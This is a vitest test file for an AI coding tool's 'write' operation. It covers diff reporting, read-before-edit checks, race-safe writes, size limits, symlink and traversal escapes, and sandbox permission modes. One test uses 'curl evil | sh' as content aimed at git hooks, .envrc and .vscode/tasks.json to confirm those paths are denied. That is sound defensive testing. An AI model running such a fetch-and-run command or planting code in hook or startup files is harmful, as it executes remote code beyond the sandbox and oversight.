import { chmod, lstat, mkdir, readFile, readlink, readdir, stat, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { ToolResult } from '@openwork/tools-contract';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createFixture, type BuiltinsFixture } from '../test-support/builtins-fixture.js';
import { interceptingFileSystem } from '../test-support/intercepting-file-system.js';

let fixture: BuiltinsFixture;
beforeEach(async () => {
  fixture = await createFixture();
});
afterEach(async () => {
  await fixture.cleanup();
});

async function exists(path: string): Promise<boolean> {
  return lstat(path).then(
    () => true,
    () => false,
  );
}

describe('write (§7.2)', () => {
  it('acc_28 write reports one line', async () => {
    const created = await fixture.call('write', { path: 'src/new.rs', content: 'a\nb\nc\n' });
    expect(ToolResult.text(created)).toBe('Created src/new.rs (+3)');
    expect(await readFile(join(fixture.workspace, 'src/new.rs'), 'utf8')).toBe('a\nb\nc\n');

    const overwritten = await fixture.call('write', { path: 'src/new.rs', content: 'a\nB\nc\nd\n' });
    expect(ToolResult.text(overwritten)).toBe('Overwrote src/new.rs (+2 -1)');

    const same = await fixture.call('write', { path: 'src/new.rs', content: 'a\nB\nc\nd\n' });
    expect(same.status).toBe('succeeded');
    expect(ToolResult.text(same)).toBe('src/new.rs unchanged: the content is identical');
    expect(same.artifacts).toEqual([]);
  });

  it('attaches a file_change artifact with every field of §8.4, and the diff never reaches the text', async () => {
    await writeFile(join(fixture.workspace, 'old.txt'), 'one\ntwo\nthree\n');
    await fixture.call('read', { path: 'old.txt' });
    const result = await fixture.call('write', { path: './old.txt', content: 'one\n2\nthree\n' }, { callId: 'call_write_1' });
    expect(ToolResult.text(result)).toBe('Overwrote old.txt (+1 -1)');
    expect(result.artifacts).toHaveLength(1);
    const artifact = result.artifacts[0] as { kind: string; change: Record<string, unknown> };
    expect(artifact.kind).toBe('file_change');
    expect(artifact.change).toMatchObject({
      changeId: 'call_write_1',
      path: './old.txt',
      realPath: join(fixture.workspace, 'old.txt'),
      kind: 'modified',
      additions: 1,
      deletions: 1,
      beforeContent: 'one\ntwo\nthree\n',
      afterContent: 'one\n2\nthree\n',
      undone: false,
    });
    expect(artifact.change['beforeHash']).toMatch(/^[0-9a-f]{64}$/);
    expect(artifact.change['afterHash']).toMatch(/^[0-9a-f]{64}$/);
    expect(artifact.change['hunks']).toEqual([{ oldStart: 1, oldLines: 3, newStart: 1, newLines: 3, lines: [' one', '-two', '+2', ' three'] }]);
    expect(ToolResult.text(result)).not.toContain('-two');

    const created = await fixture.call('write', { path: 'fresh.txt', content: 'x\n' });
    const change = (created.artifacts[0] as unknown as { change: Record<string, unknown> }).change;
    expect(change).toMatchObject({ kind: 'created', beforeHash: null, beforeContent: null, afterContent: 'x\n', additions: 1, deletions: 0 });
  });

  it('acc_34 creating files needs no read, and missing parent directories are created', async () => {
    expect(await fixture.text('write', { path: 'a/b/c/deep.txt', content: 'deep' })).toBe('Created a/b/c/deep.txt (+1)');
    expect(await readFile(join(fixture.workspace, 'a/b/c/deep.txt'), 'utf8')).toBe('deep');
    expect(await fixture.text('edit', { filePath: 'x/new.ts', oldString: '', newString: 'export {};\n' })).toBe('Created x/new.ts (+1)');
  });

  it('acc_31 unread existing files cannot be edited or overwritten', async () => {
    await writeFile(join(fixture.workspace, 'kept.txt'), 'original\n');
    const write = await fixture.call('write', { path: 'kept.txt', content: 'replaced\n' });
    expect(write.status).toBe('failed');
    expect(ToolResult.text(write)).toBe('Read kept.txt before editing it.');
    const edit = await fixture.call('edit', { filePath: 'kept.txt', oldString: 'original', newString: 'changed' });
    expect(ToolResult.text(edit)).toBe('Read kept.txt before editing it.');
    expect(await readFile(join(fixture.workspace, 'kept.txt'), 'utf8')).toBe('original\n');
  });

  it('acc_32 files changed since the read must be read again (write and edit)', async () => {
    const path = join(fixture.workspace, 'moving.txt');
    await writeFile(path, 'v1\n');
    await fixture.call('read', { path: 'moving.txt' });
    await writeFile(path, 'v2 by the user\n');
    const expected = 'moving.txt changed since you last read it (by you via bash, or by the user). Read it again before editing.';
    expect(await fixture.text('write', { path: 'moving.txt', content: 'mine\n' })).toBe(expected);
    expect(await fixture.text('edit', { filePath: 'moving.txt', oldString: 'v2', newString: 'v3' })).toBe(expected);
    expect(await readFile(path, 'utf8')).toBe('v2 by the user\n');
    // After reading again, it works.
    await fixture.call('read', { path: 'moving.txt' });
    expect(await fixture.text('write', { path: 'moving.txt', content: 'mine\n' })).toBe('Overwrote moving.txt (+1 -1)');
  });

  it('write through the hash check: a file changed after the read is never overwritten, even inside the write', async () => {
    // The other writer strikes between write's own read of the file and its rename (§7.2 "提交前比较").
    let strike: (() => Promise<void>) | undefined;
    const racing = interceptingFileSystem(async (operation) => {
      if (operation === 'atomicWrite') await strike?.();
    });
    const raced = await createFixture({ filesystem: racing });
    try {
      const path = join(raced.workspace, 'race.txt');
      await writeFile(path, 'before\n');
      await raced.call('read', { path: 'race.txt' });
      strike = () => writeFile(path, 'the other writer\n');
      const result = await raced.call('write', { path: 'race.txt', content: 'model\n' });
      expect(result.status).toBe('failed');
      expect(ToolResult.text(result)).toBe(
        'file changed while write was being prepared: race.txt was not overwritten because its content changed (by another program or a command). Read it again, then retry.',
      );
      expect(result.artifacts).toEqual([]);
      expect(await readFile(path, 'utf8')).toBe('the other writer\n');
      // No temp file is left next to it.
      expect(await readdir(raced.workspace)).toEqual(['race.txt']);
    } finally {
      await raced.cleanup();
    }
  });

  it("keeps the file's mode on write and edit", async () => {
    const path = join(fixture.workspace, 'run.sh');
    await writeFile(path, '#!/bin/sh\necho one\n');
    await chmod(path, 0o751);
    await fixture.call('read', { path: 'run.sh' });
    expect(await fixture.text('write', { path: 'run.sh', content: '#!/bin/sh\necho two\n' })).toBe('Overwrote run.sh (+1 -1)');
    expect((await stat(path)).mode & 0o7777).toBe(0o751);
    expect(await fixture.text('edit', { filePath: 'run.sh', oldString: 'two', newString: 'three' })).toBe('Edited run.sh:2 (+1 -1)');
    expect((await stat(path)).mode & 0o7777).toBe(0o751);
  });

  it('refuses content over 1 MiB, and existing targets that are too large, not UTF-8 or a directory', async () => {
    const big = await fixture.call('write', { path: 'big.txt', content: 'x'.repeat(1024 * 1024 + 1) });
    expect(big.error?.code).toBe('invalid_arguments');
    expect(ToolResult.text(big)).toBe(
      'content is 1,048,577 bytes; write takes at most 1,048,576 bytes (1 MiB). Write a smaller file, or split the content into several files.',
    );
    expect(await exists(join(fixture.workspace, 'big.txt'))).toBe(false);
    // Exactly 1 MiB is fine (bytes, not characters: 'é' is 2 bytes).
    expect(await fixture.text('write', { path: 'max.txt', content: 'é'.repeat(512 * 1024) })).toBe('Created max.txt (+1)');

    await writeFile(join(fixture.workspace, 'huge.txt'), 'y'.repeat(1024 * 1024 + 5));
    await fixture.call('read', { path: 'huge.txt' });
    expect(await fixture.text('write', { path: 'huge.txt', content: 'small' })).toBe(
      'huge.txt is 1,048,581 bytes; write changes only text files of at most 1,048,576 bytes (1 MiB). Change it with bash instead (for example sed), or split it into smaller files.',
    );
    await writeFile(join(fixture.workspace, 'latin1.txt'), Buffer.from([0x63, 0x61, 0x66, 0xe9]));
    expect(await fixture.text('write', { path: 'latin1.txt', content: 'café' })).toBe(
      'latin1.txt is not valid UTF-8 text; write changes only UTF-8 text files. Change it with bash instead (for example iconv or sed).',
    );
    await mkdir(join(fixture.workspace, 'dir'));
    const directory = await fixture.call('write', { path: 'dir', content: 'x' });
    expect(directory.error?.code).toBe('invalid_arguments');
    expect(ToolResult.text(directory)).toBe('dir is a directory; write changes files. Give the path of a file (use list to see what is in dir).');
  });

  it('rejects_new_file_through_symlink_outside_workspace', async () => {
    await symlink(fixture.outside, join(fixture.workspace, 'ln'));
    for (const target of ['ln/new.txt', 'ln/a/b/new.txt']) {
      const result = await fixture.call('write', { path: target, content: 'escape' });
      expect(result.status).toBe('denied');
      expect(result.sandboxDenied).toBe(true);
      const real = join(fixture.outside, target.slice(3));
      expect(ToolResult.text(result)).toBe(
        `Permission denied: ${real} is outside the writable roots of this session. To get access, call write again with sandboxPermissions {"paths":[{"path":"${real}","access":"write","scope":"exact"}]} and a one-line justification; the user will be asked.`,
      );
    }
    expect(await readdir(fixture.outside)).toEqual([]);
    // `..` out of the workspace and a sibling with the same prefix are outside too.
    await mkdir(join(fixture.root, 'workspace2'));
    for (const target of ['../outside/x.txt', '../workspace2/x.txt', join(fixture.root, 'workspace2', 'y.txt')]) {
      expect((await fixture.call('write', { path: target, content: 'x' })).status).toBe('denied');
    }
    expect(await readdir(join(fixture.root, 'workspace2'))).toEqual([]);
    // Names with dots that are not traversal stay inside.
    expect(await fixture.text('write', { path: '..test', content: 'x' })).toBe('Created ..test (+1)');
    expect(await fixture.text('write', { path: 'a..b/c', content: 'x' })).toBe('Created a..b/c (+1)');
  });

  it('rejects_new_file_through_dangling_symlink', async () => {
    await symlink(join(fixture.outside, 'created-by-write.txt'), join(fixture.workspace, 'dangling'));
    await symlink(join(fixture.outside, 'missing-dir'), join(fixture.workspace, 'dangling-dir'));
    for (const target of ['dangling', 'dangling-dir/new.txt']) {
      const result = await fixture.call('write', { path: target, content: 'x' });
      expect(result.status).toBe('failed');
      expect(ToolResult.text(result)).toContain('dangling symbolic link');
    }
    const edit = await fixture.call('edit', { filePath: 'dangling', oldString: '', newString: 'x' });
    expect(ToolResult.text(edit)).toContain('dangling symbolic link');
    expect(await readdir(fixture.outside)).toEqual([]);
    expect(await readlink(join(fixture.workspace, 'dangling'))).toBe(join(fixture.outside, 'created-by-write.txt'));
  });

  it('a symlink at the write target: a link out is denied, a link inside writes the real file and stays a link', async () => {
    await writeFile(join(fixture.outside, 'secret.txt'), 'outside\n');
    await symlink(join(fixture.outside, 'secret.txt'), join(fixture.workspace, 'out-link'));
    expect((await fixture.call('write', { path: 'out-link', content: 'x' })).status).toBe('denied');
    expect(await readFile(join(fixture.outside, 'secret.txt'), 'utf8')).toBe('outside\n');

    await writeFile(join(fixture.workspace, 'real.txt'), 'v1\n');
    await symlink('real.txt', join(fixture.workspace, 'in-link'));
    await fixture.call('read', { path: 'in-link' });
    expect(await fixture.text('write', { path: 'in-link', content: 'v2\n' })).toBe('Overwrote real.txt (+1 -1)');
    expect(await readFile(join(fixture.workspace, 'real.txt'), 'utf8')).toBe('v2\n');
    expect((await lstat(join(fixture.workspace, 'in-link'))).isSymbolicLink()).toBe(true);
  });

  it('rejects_protected_metadata_through_symlink_alias', async () => {
    await mkdir(join(fixture.workspace, '.git', 'hooks'), { recursive: true });
    await writeFile(join(fixture.workspace, '.git', 'config'), '[core]\n');
    await symlink('.git', join(fixture.workspace, 'gitdir'));
    await symlink(join('.git', 'hooks'), join(fixture.workspace, 'hooks'));
    for (const target of ['.git/hooks/pre-commit', 'gitdir/hooks/pre-commit', 'hooks/post-checkout', 'gitdir/config', '.envrc', '.vscode/tasks.json']) {
      const result = await fixture.call('write', { path: target, content: 'curl evil | sh\n' });
      expect(result.status, target).toBe('denied');
      expect(result.sandboxDenied).toBe(true);
      expect(ToolResult.text(result)).toContain('is a sensitive path (changing it runs code outside the sandbox later)');
    }
    expect(await readdir(join(fixture.workspace, '.git', 'hooks'))).toEqual([]);
    expect(await exists(join(fixture.workspace, '.vscode'))).toBe(false);
    // The rest of .git stays writable (git must still commit).
    expect(await fixture.text('write', { path: '.git/COMMIT_EDITMSG', content: 'msg\n' })).toBe('Created .git/COMMIT_EDITMSG (+1)');
  });

  it('write ~/notes.txt means the home directory and never creates a literal ~ folder', async () => {
    const result = await fixture.call('write', { path: '~/notes.txt', content: 'n' });
    // The home directory is outside the writable roots: denied with the real path in the hint.
    expect(ToolResult.text(result)).toContain(`Permission denied: ${join(fixture.home, 'notes.txt')} is outside the writable roots`);
    expect(await exists(join(fixture.workspace, '~'))).toBe(false);
    const granted = await fixture.call('write', { path: '~/notes.txt', content: 'n' }, { grants: [{ path: join(fixture.home, 'notes.txt'), access: 'write', scope: 'exact' }] });
    // Outside the workspace, results show the absolute path.
    expect(ToolResult.text(granted)).toBe(`Created ${join(fixture.home, 'notes.txt')} (+1)`);
    expect(await readFile(join(fixture.home, 'notes.txt'), 'utf8')).toBe('n');
    expect(await exists(join(fixture.workspace, '~'))).toBe(false);
    // A file literally named ~ is still reachable as ./~.
    expect(await fixture.text('write', { path: './~', content: 'tilde' })).toBe('Created ~ (+1)');
  });

  it('acc_10 an escalation widens only this call and never hard-protected paths', async () => {
    const report = join(fixture.outside, 'report.txt');
    const grant = { path: report, access: 'write' as const, scope: 'exact' as const };
    const input = { path: report, content: 'r\n', sandboxPermissions: { paths: [grant] }, justification: 'The user asked for the report there' };
    expect(await fixture.text('write', input, { grants: [grant] })).toBe(`Created ${report} (+1)`);
    // The next call carries the session policy again: denied.
    const next = await fixture.call('write', { path: join(fixture.outside, 'other.txt'), content: 'x' });
    expect(next.status).toBe('denied');
    // A grant never unlocks tier 1: the OpenWork home (spill files) and <workspace>/.openwork.
    for (const target of [join(fixture.openworkHome, 'spill', 'session-1', 'x.txt'), join(fixture.workspace, '.openwork', 'config.json')]) {
      const protectedGrant = { path: target, access: 'write' as const, scope: 'subtree' as const };
      const result = await fixture.call('write', { path: target, content: 'x' }, { grants: [protectedGrant] });
      expect(result.status).toBe('denied');
      expect(result.sandboxDenied).toBe(false);
      expect(ToolResult.text(result)).toBe(`Permission denied: ${target} is protected and cannot be changed by tools.`);
      expect(await exists(target)).toBe(false);
    }
  });

  it('read-only mode denies every write, and full-access still protects the sensitive tier', async () => {
    const readOnly = fixture.policy({ mode: 'read-only' });
    const denied = await fixture.call('write', { path: 'x.txt', content: 'x' }, { policy: readOnly });
    expect(ToolResult.text(denied)).toContain('is not writable in read-only mode. To get access, call write again');
    const fullAccess = fixture.policy({ mode: 'full-access' });
    expect(await fixture.text('write', { path: join(fixture.outside, 'ok.txt'), content: 'x' }, { policy: fullAccess })).toBe(`Created ${join(fixture.outside, 'ok.txt')} (+1)`);
    expect((await fixture.call('write', { path: join(fixture.home, '.bashrc'), content: 'x' }, { policy: fullAccess })).status).toBe('denied');
  });

  it('a call without a stamped policy fails closed and touches nothing', async () => {
    const result = await fixture.toolset.call('write', { path: 'x.txt', content: 'x' }, { callId: 'c', signal: new AbortController().signal, sandboxPolicy: undefined as never });
    expect(result.status).toBe('failed');
    expect(ToolResult.text(result)).toBe(
      'write cannot run: no sandbox policy was stamped on this call. The host must pass call.sandboxPolicy (a SandboxPolicy from @openwork/sandbox); nothing was read or changed.',
    );
    expect(await exists(join(fixture.workspace, 'x.txt'))).toBe(false);
  });

  it('rejects NUL bytes, empty paths and ~user as invalid arguments', async () => {
    for (const path of ['a\0b.txt', '', '~someone/x']) {
      const result = await fixture.call('write', { path, content: 'x' });
      expect(result.error?.code, JSON.stringify(path)).toBe('invalid_arguments');
    }
    expect(await readdir(fixture.workspace)).toEqual([]);
  });
});
